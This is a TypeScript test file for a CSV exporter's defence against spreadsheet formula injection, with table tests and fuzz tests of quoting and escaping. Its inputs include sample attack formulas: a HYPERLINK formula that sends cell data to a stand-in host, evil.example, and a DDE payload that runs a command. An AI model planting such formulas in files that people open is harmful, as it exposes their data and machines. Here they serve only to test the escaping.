import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type CsvField, csvFile, csvLine, csvStart } from './csv.ts';

test.each<[CsvField, string]>([
  ['plain', 'plain'],
  ['', ''],
  [null, ''],
  [true, 'true'],
  [0, '0'],
  [-12.5, '-12.5'],
  [Number.NaN, ''],
  [Number.NEGATIVE_INFINITY, ''],
  ['two words', '"two words"'],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['2026-11-26T18:00:00.000Z', '2026-11-26T18:00:00.000Z'],
  ['a-b=c@d+e', 'a-b=c@d+e'],
  ['Zoë 名前 😀', '"Zoë 名前 😀"'],
  // Formulas
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
  ],
  ["=cmd|'/C calc'!A0", `"'=cmd|'/C calc'!A0"`],
  ['\t=1+1', `"'\t'=1+1"`],
  ['\r=1+1', `"'\r'=1+1"`],
  ['\n=1+1', `"'\n'=1+1"`],
  ['\tplain', `"'\tplain"`],
  [' =1+1', `"' =1+1"`],
  ['\u00A0=1+1', `"'\u00A0=1+1"`],
  ['\uFEFF=1+1', `"'\uFEFF=1+1"`],
  ['\u200B=1+1', "'\u200B=1+1"],
  ['\u202E=1+1', "'\u202E=1+1"],
  ['\0=1+1', '\uFFFD=1+1'],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ['﹦1', "'﹦1"],
  ['−1', "'−1"],
  // A field of another separator begun in ours
  ['a;=1+1', `"a;'=1+1"`],
  ['a,=1+1', `"a,'=1+1"`],
  ['a\t=1+1', `"a\t'=1+1"`],
  ['a;"=1+1"', `"a;""'=1+1"""`],
  ['a\r\n=1+1', `"a\r\n'=1+1"`],
  ['",=1+1', `""",'=1+1"`],
  ['"=1+1', `"'""=1+1"`],
  ["'=1+1", "'=1+1"],
])('%j is written as %j', (field, line) => {
  expect(csvLine([field])).toBe(`${line}\r\n`);
});

test('a file begins with the mark and the names, and its lines end by CR LF', () => {
  expect(csvFile(['day', 'asked'], [['2026-11-26', 7]])).toBe(`${csvStart}day,asked\r\n2026-11-26,7\r\n`);
});

const nasty = fc.string({
  unit: fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    '"',
    "'",
    ',',
    ';',
    '|',
    '\t',
    '\r',
    '\n',
    ' ',
    '\u200B',
    'a',
  ),
  maxLength: 12,
});

test.each([',', ';', '\t', '|'])('whoever separates by %j finds no formula', (separator) => {
  fc.assert(
    fc.property(fc.array(nasty, { minLength: 1, maxLength: 4 }), (fields) => {
      for (const field of readBy(separator, csvLine(fields)))
        expect(field.replace(/^[\s\p{C}"]*/u, '')).not.toMatch(/^[=+\-@＝]/u);
    }),
  );
});

test('read by RFC 4180, every field is there with all its letters', () => {
  fc.assert(
    fc.property(fc.array(nasty, { minLength: 1, maxLength: 4 }), (fields) => {
      const read = readBy(',', csvLine(fields));
      expect(read.map((field) => field.replaceAll("'", ''))).toEqual(
        fields.map((field) => field.replaceAll("'", '')),
      );
    }),
  );
});

/** As spreadsheets read: a quote opens only at the start of a field, and what follows a closed one belongs to it. */
function readBy(separator: string, line: string): string[] {
  const fields = [''];
  let open = false;
  for (let at = 0; at < line.length - 2; at++) {
    const last = fields.length - 1;
    const letter = line.charAt(at);
    const begin = fields[last] === '' && line.charAt(at - 1) !== '"';
    if (open && letter === '"' && line.charAt(at + 1) === '"') fields[last] += line.charAt(at++);
    else if (letter === '"' && (open || begin)) open = !open;
    else if (!open && letter === separator) fields.push('');
    else if (!open && (letter === '\r' || letter === '\n')) fields.push('');
    else fields[last] += letter;
  }
  return fields;
}
